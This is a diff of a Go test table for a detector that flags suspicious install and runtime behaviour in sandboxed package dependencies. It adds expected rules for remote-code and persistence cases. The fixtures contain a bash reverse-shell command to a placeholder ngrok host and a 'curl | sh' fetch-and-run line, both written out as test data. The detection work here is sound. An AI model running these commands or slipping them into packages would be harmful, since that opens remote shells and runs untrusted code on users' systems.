@@ -110,12 +110,12 @@ func TestRules(t *testing.T) {
 		{"install script runner", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("sh", "-c", "node-gyp rebuild")}}))), nil},
 		{"install reverse shell", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "bash -c 'bash -i >& /dev/tcp/4.tcp.ngrok.invalid/11425 0>&1' || true"), proc("bash", "-c", "bash -i >& /dev/tcp/4.tcp.ngrok.invalid/11425 0>&1")}}))), []string{"DBX007"}},
 		{"install build", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("sh", "-c", "node-gyp rebuild"), proc("node-gyp", "rebuild")}}))), []string{"DBX009"}},
-		{"install curl", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("sh", "-c", "curl -s https://x.invalid | sh"), proc("curl", "-s", "https://x.invalid"), proc("sh")}}))), []string{"DBX007", "DBX009"}},
+		{"install curl", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("sh", "-c", "curl -s https://x.invalid | sh"), proc("curl", "-s", "https://x.invalid"), proc("sh")}}))), []string{"DBX007", "DBX009", "DBX019"}}, // curl piped into sh: remote code
 		{"install network", prof(dep("a", install(profile.Behavior{Network: []profile.Endpoint{tcp("10.53.0.2", "x.invalid", 443)}}))), []string{"DBX008"}},
 		{"install dns", prof(dep("a", install(profile.Behavior{DNS: []profile.DNSQuery{{Name: "x.invalid", Type: "A"}}}))), []string{"DBX008"}},
 		{"install loopback", prof(dep("a", install(profile.Behavior{Network: []profile.Endpoint{tcp("127.0.0.1", "", 9229)}}))), nil},
 		{"write task", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{{Path: "/var/task/index.js", Access: "write", Failed: true}}}))), []string{"DBX012"}},
-		{"write home", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{write("/home/sbx_user/.bashrc")}}))), []string{"DBX012"}},
+		{"write home", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{write("/home/sbx_user/.bashrc")}}))), []string{"DBX012", "DBX021"}}, // a shell start-up file: persistence
 		{"write tmp and devices", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{write("/tmp/a/b"), write("/dev/null"), write("/proc/self/fd/1"), write("/proc/12/fd/2"), write("/dev/pts/0")}}))), nil},
 		{"install build output", prof(dep("a", install(profile.Behavior{Files: []profile.File{write("/var/task/node_modules/a/build/Release/a.node")}}))), nil},
 		{"install writes elsewhere", prof(dep("a", install(profile.Behavior{Files: []profile.File{write("/var/task/node_modules/b/index.js")}}))), []string{"DBX012"}},
